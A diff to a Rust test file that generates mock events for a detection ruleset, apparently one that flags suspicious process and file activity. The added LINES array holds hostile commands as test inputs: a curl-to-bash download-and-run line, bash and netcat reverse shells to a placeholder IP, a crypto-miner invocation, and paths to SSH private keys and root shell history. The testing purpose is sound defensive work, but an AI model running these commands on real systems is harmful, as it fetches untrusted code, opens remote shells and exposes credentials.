@@ -24,8 +24,21 @@ fn own() -> Ruleset {
     load(&text).unwrap_or_else(|problems| panic!("{problems:#?}")).ruleset
 }
 
+/// Texts that regular expressions of rules fit.
+const LINES: [&str; 9] = [
+    "sh -c curl http://a.example/b.sh | bash",
+    "bash -i >& /dev/tcp/192.0.2.1/99 0>&1",
+    "miner -a rx/0 -o pool.example:3333 -u x -p y",
+    "/home/a/.ssh/id_rsa",
+    "/root/.bash_history",
+    "python3.13",
+    "npm",
+    "eu.nanopool.org",
+    "nc -e /bin/sh 192.0.2.1 99",
+];
+
 /// An event with values of which rules have many, or none, picked by `pick`.
-fn event(rules: &Ruleset, kind: usize, pick: &mut impl FnMut(usize) -> usize) -> Mock {
+pub(super) fn event(rules: &Ruleset, kind: usize, pick: &mut impl FnMut(usize) -> usize) -> Mock {
     let kinds: Vec<_> = rules.kinds().iter().collect();
     let mut mock = Mock { kind: kinds[kind % kinds.len()], facts: Vec::new() };
     let program = &rules.program;
@@ -36,9 +49,17 @@ fn event(rules: &Ruleset, kind: usize, pick: &mut impl FnMut(usize) -> usize) ->
             .flat_map(|comparison| &comparison.values)
             .map(|value| program.symbols.text(*value))
             .collect();
-        let text = match (texts.len(), pick(4)) {
+        let text = match (texts.len(), pick(9)) {
             (0, _) | (_, 0) => b"other".to_vec(),
             (many, 1) => [texts[pick(many)], b"x"].concat(),
+            (many, 2) => [b"x", texts[pick(many)]].concat(),
+            (many, 3) => [b"x", texts[pick(many)], b"y"].concat(),
+            (many, 4) => [texts[pick(many)], texts[pick(many)]].concat(),
+            // What fits many a pattern, and some regular expressions.
+            (many, 5) => {
+                texts[pick(many)].iter().map(|byte| if b"*?".contains(byte) { b'q' } else { *byte }).collect()
+            }
+            (_, 6) => LINES[pick(LINES.len())].into(),
             (many, _) => texts[pick(many)].to_vec(),
         };
         let name = field.definition().name;
